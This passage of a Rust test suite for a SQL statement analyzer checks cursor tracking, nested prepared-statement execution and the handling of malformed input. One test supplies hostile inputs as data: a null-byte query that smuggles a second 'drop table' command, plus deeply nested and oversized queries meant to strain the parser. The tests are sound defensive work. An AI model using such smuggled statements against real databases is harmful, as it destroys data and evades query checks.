        let n = names("DECLARE c CURSOR WITH HOLD FOR SELECT * FROM customers; FETCH 10 FROM c; MOVE FORWARD 5 IN c; CLOSE c; CLOSE ALL");
        assert_eq!(n.declared[0].0, "c");
        assert_eq!(n.declared[0].1.tables, ["customers"]);
        assert_eq!(n.fetched, ["c", "c"]);
        assert_eq!(n.closed, [Some("c".into()), None]);
        assert!(names("SELECT 1").is_empty());
        // Statements that run a prepared one inside them (red-team round 10).
        assert_eq!(names("EXPLAIN (ANALYZE) EXECUTE m3(1, 1)").executed, ["m3"]);
        assert_eq!(names("CREATE TEMP TABLE t AS EXECUTE m4").executed, ["m4"]);
        assert_eq!(names("CREATE TABLE IF NOT EXISTS t (a) AS EXECUTE m4 WITH DATA").executed, ["m4"]);
        assert_eq!(names("EXPLAIN (ANALYZE) CREATE TEMP TABLE t AS EXECUTE m5").executed, ["m5"]);
        assert!(names("CREATE TABLE t AS SELECT 1").executed.is_empty());
    }

    #[test]
    fn unreadable_and_hostile() {
        assert_eq!(analyze("SELEC oops").kinds, ["unknown"]);
        assert!(!analyze("SELEC oops").parsed);
        let deep = format!("SELECT {}1{}", "-(".repeat(5000), ")".repeat(5000));
        assert_eq!(analyze(&deep).kinds, ["unknown"]);
        assert_eq!(analyze("").kinds, ["empty"]);
        assert_eq!(analyze("select 1\0; drop table t").kinds, ["unknown"]);
        let s = analyze("select * from \"Public\".\"Users\" u join orders o on o.uid = u.id");
        assert_eq!(s.tables, ["public.users", "orders"]);
        let big = format!("SELECT '{}'", "x".repeat(2 << 20));
        assert_eq!(analyze(&big).kinds, ["select"]);
    }
}
